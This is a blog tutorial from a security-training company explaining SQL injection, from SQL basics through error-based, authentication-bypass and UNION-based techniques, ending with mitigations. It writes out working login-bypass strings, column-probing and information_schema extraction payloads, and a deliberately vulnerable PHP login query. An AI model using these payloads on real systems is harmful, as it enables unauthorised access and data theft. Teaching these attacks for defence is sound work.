SQL Injection Isn’t Going Anywhere

SQL Injection Isn’t Going Anywhere

SQL injections might sound like a thing from the past, but in actuality, it is still one of the most widely used methods of attack by hackers around the world. As stated in the Akamai Media Under Assault report a staggering 69.7% of all web application attacks between January 2018 and June 2019 were SQL injections. That is a LOT considering that it was supposedly first discovered by a man by the name of Jeff “Rain Forrest Puppy” Forristal back in 1998. Yes… ‘98.

The Basics

SQL injection type attacks belong to the injection type attack class where inputs from untrusted data sources are used to (dynamically) construct and execute commands such as SQL, LDAP, shell, XML, and XPATH code. Modern web application frameworks are supposed to be impervious to SQL injection attacks, and this gives novice web developers a false sense of security that often leads them to create serious vulnerabilities in live systems.

In the case of SQL injections, the backend that executes crafted data is a relational database. The attacker sends crafted data to the application which handles it as SQL commands on the server-side. Forwarding data from an untrusted source to the SQL database may lead to:

  • Data leakage;
  • Unauthorized modifications of data and data loss;
  • The attacker gaining full control of the target server;
  • Availability, integrity and confidentiality issues.

This is caused when the data entered by an untrusted person is used inside SQL statements without sanitation, the SQL statements are constructed dynamically, or the data types are not checked or properly cast.

To explain in more detail, we need to goeven further into the basics.SQL – Structured Query Language

SQL is a declarative language where the needed result is described (declared) instead of describing an algorithm like in imperative languages such as JavaScript or PHP. The SQL language is used for processing data in Relational Database Management Systems (RDBMS). Many web applications that have dynamic HTML as the frontend use a SQL database for storing data. An RDBMS can usually handle several databases (or schemas).

Basic Commands:

# In case of MySQL you can find all the schema names using the following command:
show databases;

# To use a specific database use the following command:
use ;

# The table names can be found using the following command:
show tables;

# A list of all the columns in a table can be found using the command:
desc ;Select commands:

# Information can be retrieved from tables using a select command:
select column,list,separated,by,commas from schemaname.tablename where selection_criteria;

# Example:
select first_name, last_name from dvwa.users where user_id=1;

SQL Tautology

A tautology is a statement that is always true. For example, A or 1=1 is always true regardless of the value of A. Please see the following SQL statement and mind the or 1=1 at the end of the line.

select first_name,last_name from dvwa.users where user_id=1 or 1=1;

This makes the where clause return true for each row and all the users from the table are selected. Sometimes hackers need queries that do not return any data, in that case, a false will be seeded to the where clause:

select ... where user_id=1 and 1=2;

Union Select

In SQL injections the union keyword is widely abused to retrieve the content of a database. Union allows composing a result set from different queries. There is a strong restriction on the number of selected columns in each query. It must be the same for each query. So if you select columns from 2 different tables then you need to add or remove selected columns in either table to make the number of columns match.

# Selecting 2 columns from 2 different tables:
select columnA1, columnA2 from databaseA.tableA union select columnB1, columnB2 from databaseB.tableB;

Malicious actors try to extend queries using union select from the information_schema to reveal inside information that can be used again with the next union select.

Comments In SQL

Sometimes hackers manipulate SQL commands by using commenting characters like # and -- to finish the query before it is supposed to.

MySQL supports three comment styles:

  • # comments everything out until the end of the line
  • -- comments everything out until the end of the line
  • /* block comment */ can be used inside the SQL command to comment out specific chunks


selectTABLE_SCHEMA from information_schema.tables; # This is a comment
select TABLE_NAME from information_schema.tables; -- This is a comment
select TABLE_NAME,TABLE_SCHEMA /* this is a comment */ from
this is a multi line comment

Single Quotes in n SQL

In the SQL syntax the character ' (a single quote) indicates the beginning or ending of a data string.For example, the SQL select select 'sample text' as result; returns the following result:

| result |
| sample text |
1 row in set (0,00 sec)

Trying to insert a single quote into a query like select 'sample ' text' as result; results in the following error, which could indicate that an injection is possible (more on that later):

ERROR 1064 (42000): You have an error in your SQL syntax;
check the manual that corresponds to your MySQL server version
for the right syntax to use near '' as result;

SQL Injections

SQL injections come in many shapes and forms depending on what the malicious actor wants to achieve. It varies from bypassing authentication forms to executing operating system commands.

SQLi types:

  • Error-based SQL injection
  • Bypassing authorization forms
  • Union-based SQL injection
  • Blind SQL injection
  • Chained SQL commands
  • SQL injections inside insert/update/delete
  • Regular expressions in SQL injections
  • Loading/writing files
  • Executing OS commands
  • Using other channels instead of HTTP methods for SQL injections

Error based SQL injection

Error based SQL injections are used for revealing information about the existence of SQL injection vulnerabilities and the type ofthe database engine. For example, as mentioned earlier, if entering the ' character into a website’s form field causes an error then the SQL injection error exists. In the case of MySQL, the result should look like this:

...- You have an error in your SQL syntax;
check the manual that corresponds to your MySQL server version
for the right syntax to use near ...From the error message we can see that MySQL is used as the database. Additionally, you can get information about the field and table names used in the query. Error based SQL injection vulnerability exist when error messages generated by the database’s backend are returned to the end-user who can then use that intel to go on to perform other types of SQL injection attacks.

SQL Injection Authentication Bypass

SQL injections can easily be used to bypass security and gain access to web applications. Let’s say the following web form asks you for a username and password:




Then the following PHP script is executed to authorize you:

$query ="SELECT * FROM shop_users
WHERE username='$_POST['username']' and password='$_POST['password']'";
$result = mysqli_query($connection, $query)
if (!empty($user)) {
return $user;

The username and password sent are directly inserted into theSQL query without any input sanitation. If you enter the username bob and password LetMePass then the following query is executed in the database’s backend:

SELECT * FROM shop_users WHERE username='bob' and password='LetMepass';

Now if you set admin as your username and use an SQL tautology (mentioned above) in the password field, accompanied by a single quote and comment character to finish the query halfway then you can ingeniously bypass the password check entirely.

Example value in the form:

randompassword' or '1'='1

Please notice that the last ' is added by the php code and the fully executed command will be:

SELECT * FROM shop_users WHERE username='admin' and password='randompassword' or '1'='1';

If the query is successful, then the first user in the dataset is fetched and the hacker is logged in. If that first user is an admin then the attacker is now successfully logged in with superior privileges. But if the first user returned is an unprivileged user then the attacker can enter a random username and use the false statement to exclude the first user while entering the following into the password field:

randompassword' or '1'='1' and id <> 1; -- #

Please notice that -- should be followed by at least one character (like a space) and if the table has an id field then the query returns the second user.

Union based SQL injections

Union based SQL injections are used to reveal database schema names, table names and column names. This info can be used to write other queries, for example, for dumping data. As stated earlier, union select is possible if every select has the exact same number of columns in their result set. When web forms allow to enter data, display the result (like a search form), and enable the use of SQL injections, then union select is probably possible. To find out the right number of columns in a table you can use a trial and error method with the order by keyword. When you get an error for order by 3,then there are two columns.


a' order by 1; -- #
a' order by 2; -- #
a' order by 3; -- #

When you know the number of columns in a table then you can union select from that table. However, you need to know theschema, table and column names first. The information schema is known to you, therefore you can collect information about tables, schemas, and columns from it. Terminate the query in the form field with ' and append a union select terminated with the comment characters # --.

Example in case the original query returns two columns:

' union select TABLE_NAME,TABLE_SCHEMA from information_schema.tables; # --

Example in case the original query returns 4 columns:

' union select 1,2,TABLE_NAME, COLUMN_NAME from information_schema.columns; # --

While using union select you may need to select more fields than thefirst table contains. In that case, the concat() function can be used to combine two or more columns into one result column. The concat(arg1,...,argN) function concatenates all arguments to one result.


# Normal select
select concat(version(),' ',user());

# Union select injection
' union select concat(version(),' ',user()); # --
' union select concat(TABLE_NAME,'-',TABLE_SCHEMA) from information_schema.tables; # --
' union select concat(TABLE_NAME,'-',COLUMN_NAME) from information_schema.columns; # --

SQL Injection MitigationThere are several ways to protect your systems against SQL injections:

  • Use Prepared Statements (with Parameterized Queries)
  • Use StoredProcedures
  • Whitelist Input Validation
  • Escape All User Supplied Input
  • Enforce Least Privilege
  • Perform Whitelist Input Validation as a Secondary Defense (detect unauthorized input before it is passed to the SQL query)
  • Harden your HTTP server with security measures (mod_security for Apacheconfiguration directives in Nginx, etc.)

In Conclusion

SQL injections are fairly easy to use as they don’t require a higher degree in programming or cybersecurity. All you need is a basic understanding of SQL queries and how they are implemented in code. Oddly enough, it is still one of the biggest web application vulnerabilities in the world.

Test your skills with new RangeForce modules.Written by Roland Kaur, Content Development Lead

Subscribe Blog

Subscribe Here!

See how RangeForce can help your teamhone their cyber security skills, train upnew team members, and make running blue/red team exercises asnap!

Request a DemoRelated posts

Guides, Research & More